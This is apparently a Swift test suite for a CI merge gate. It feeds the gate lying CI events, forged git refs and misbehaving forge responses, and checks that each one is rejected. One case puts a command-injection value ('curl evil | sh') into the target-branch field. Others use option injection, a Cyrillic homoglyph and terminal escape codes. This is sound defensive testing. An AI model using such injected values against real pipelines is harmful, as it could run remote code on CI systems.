import Support
import Testing

/// One lie that reaches the gate: by the CI's event, by what git fetched before it, or by the forge that it publishes
/// to.
struct GateLie: Sendable, CustomTestStringConvertible {
  let says: String
  /// Members of the event's request that are replaced, with JSON.
  var head = "$HEAD"
  var base = "\"staging\""
  var repository = "\"stagex/stagex\""
  var event = "pull_request_target"
  /// Refs of the CI's clone, as a lying server filled it.
  var refs: [String: String] = [:]
  /// Of the forge, where the answer is published.
  var rules: [String] = []
  var words: [String] = ["--publish"]
  let status: Int32
  /// Part of what is printed; lines are folded at blanks.
  let text: String
  /// Which state of the judged head the forge must have in the end; nil for none, or for one that says "being judged".
  var published: String?

  var testDescription: String { says }

  private static let posts = #""method": "POST", "path": "/statuses/""#
  private static let comments = #""path": "/issues/1/comments$""#
  /// What the gate says of the honest request.
  static let lacks = "has 1 of 2 maintainers: alice next: stagex-maint cosign PR-1 (by one of: dave)"

  static let all = [
    // What is judged.
    GateLie(
      says: "the request's ref holds a better head than the event", refs: ["refs/pull/1/head": "$SECOND"], status: 1,
      text: "judged is the event's head", published: "failure"),
    GateLie(
      says: "the event is about a commit that nobody has", head: "$NONE", status: 2,
      text: "which is not in this clone"),
    GateLie(says: "the event's head is a file", head: "$BLOB", status: 2, text: "which is not in this clone"),
    GateLie(
      says: "the event's head is a branch's name", head: "staging", status: 64, text: "is no full commit id: staging"),
    GateLie(says: "the event's head is an option", head: "--all", status: 64, text: "is no full commit id: --all"),
    GateLie(
      says: "the event is another repository's", repository: "\"eve/stagex\"", status: 64,
      text: "the event is about eve/stagex, and this job runs in stagex/stagex"),
    GateLie(
      says: "the event is of another kind", event: "issue_comment", status: 64,
      text: "the event issue_comment changes no branch and asks for no merge"),
    GateLie(
      says: "the target is a branch that its own rules protect", base: "\"trap\"",
      refs: ["refs/remotes/origin/trap": "$EVIL"], status: 64, text: "is not protected here"),
    GateLie(
      says: "the target is staging with a Cyrillic letter", base: "\"st\\u0430ging\"",
      refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64, text: "is not protected here"),
    GateLie(
      says: "the target holds a command", base: "\"x\\\"; curl evil | sh; \\\"\"", status: 64,
      text: "pull_request.base.ref is no branch's name"),
    GateLie(
      says: "the target is the remote's HEAD", base: "\"HEAD\"", status: 64,
      text: "refs/heads/HEAD is not protected here"),
    GateLie(
      says: "the server showed staging at a commit by nobody",
      refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1,
      text: "which carries the rules, is not in order at", published: "failure"),
    GateLie(
      says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1,
      text: "which carries the rules, is not in order at", published: "failure"),
    GateLie(
      says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1,
      text: "which carries the rules, is not in order at", published: "failure"),
    GateLie(
      says: "the server showed staging as it was", refs: ["refs/remotes/origin/staging": "$START"], status: 1,
      text: lacks, published: "failure"),
    GateLie(
      says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"],
      status: 2, text: "is not on the first-parent line of refs/heads/staging", published: "error"),
    GateLie(
      says: "the server showed no staging", refs: ["refs/remotes/origin/staging": "", "refs/heads/staging": ""],
      status: 2, text: "the branch refs/heads/staging is not in this clone"),
    GateLie(
      says: "the server showed no staging, and the clone has its own", refs: ["refs/remotes/origin/staging": ""],
      status: 1, text: lacks, published: "failure"),
    // Where it is published. The verdict is the same, whatever the forge says.
    GateLie(
      says: "the forge does not answer", rules: [#"{"path": "^/api/", "do": {"delay": 30}}"#], status: 1,
      text: "not published: "),
    GateLie(
      says: "the forge falls silent after the first status", rules: [#"{\#(posts), "skip": 1, "do": {"delay": 30}}"#],
      status: 1, text: "not published: ", published: "failure"),
    GateLie(
      says: "the forge sends the status on to another host",
      rules: [#"{\#(posts), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#],
      status: 1, text: "sends us on to"),
    GateLie(
      says: "the forge refuses in words that clear the screen",
      rules: [#"{\#(posts), "do": {"reply": {"status": 403, "body": "{\"message\": \"\\u001b[2Jno\"}"}}}"#], status: 1,
      text: #"\x1b[2Jno"#),
    GateLie(
      says: "the forge says that it was green", rules: [#"{\#(posts), "do": {"patch": {"status": "success"}}}"#],
      status: 1, text: lacks, published: "failure"),
    GateLie(
      says: "the list of comments never ends", rules: [#"{\#(comments), "method": "GET", "do": {"endless": true}}"#],
      status: 1, text: "too large", published: "failure"),
    GateLie(
      says: "the list of comments is a page",
      rules: [#"{\#(comments), "method": "GET", "do": {"reply": {"body": "<html>"}}}"#], status: 1,
      text: "not published: ", published: "failure"),
  ]
}

extension ForgeLieWorld {
  func gate(_ lie: GateLie, _ location: SourceLocation = #_sourceLocation) throws {
    try restore()
    let clone = try freshClone()
    let ids = places.filter { !["NONE", "BLOB", "TREE", "HEADTREE"].contains($0.key) }.values.sorted()
    try Tool.succeed("git", ["-C", clone, "fetch", "-q", forge.path(Self.standIn)] + ids)
    try Tool.succeed("git", ["-C", clone, "update-ref", "refs/pull/1/head", places["HEAD"]!])
    for (ref, place) in lie.refs {
      try Tool.succeed("git", ["-C", clone, "update-ref"] + (place.isEmpty ? ["-d", ref] : [ref, filled(place)]))
    }
    let event = """
      {"action": "synchronize", "number": 1, "pull_request": {"number": 1, "title": "x", \
      "head": {"sha": "\(filled(lie.head))", "ref": "topic", "repo": null},
       "base": {"ref": \(lie.base), "sha": "\(filled("$START"))", "repo": {"full_name": \(lie.repository)}}}}
      """
    try CosignServer.write("\(clone)/.git/event.json", Array(event.utf8))
    let environment = [
      "CI": "true", "FORGEJO_EVENT_NAME": lie.event, "FORGEJO_EVENT_PATH": "\(clone)/.git/event.json",
      "FORGEJO_REPOSITORY": "stagex/stagex",
      "FORGEJO_API_URL": "\(forge.url)/api/v1", "MAINT_TOKEN": forge.token(of: "alice"),
    ]
    let told = ForgeLie(says: lie.says, rules: lie.rules)
    let result = try meet(told, ["gate"] + lie.words, in: clone, extra: environment)
    #expect(
      !lie.text.isEmpty && result.status == lie.status && says(result, lie.text),
      "\(lie.says): \(result.status) \(result.all)", sourceLocation: location)
    // The newest first. Behind them come the rules, which hold words of the lie's.
    let shown = try forge.forge("show")
    let known = shown[..<(shown.firstRange(of: #""rules":"#)?.lowerBound ?? shown.endIndex)]
    let states = known.matches(of: #/"status": "(\w+)"/#).map { String($0.1) }
    let last = states.first == "pending" ? nil : states.first
    #expect(last == lie.published, "\(lie.says): \(states)", sourceLocation: location)
    if lie.status != 0 { #expect(!states.contains("success"), "\(lie.says): \(states)", sourceLocation: location) }
  }
}

/// The gate of a CI, lied to. The honest forge, with a request that may be merged, is the twin.
@Suite(
  .enabled(
    if: ForgeLie.areAsked && VirtualCard.isPossible && TestForge.isPossible, "takes minutes: set STAGEX_MAINT_LIES=1")
)
struct GateLiesTests {
  @Test func `Of the lies that reach the gate each is told, or fools nobody`() throws {
    let world = try ForgeLieWorld()
    for lie in GateLie.all { try world.gate(lie) }
    try world.gate(
      GateLie(says: "none, of a request that lacks people", status: 1, text: GateLie.lacks, published: "failure"))
    try world.gate(
      GateLie(
        says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0,
        text: "the rule is satisfied as soon as one of these makes the signed merge: alice", published: "success"))
  }
}
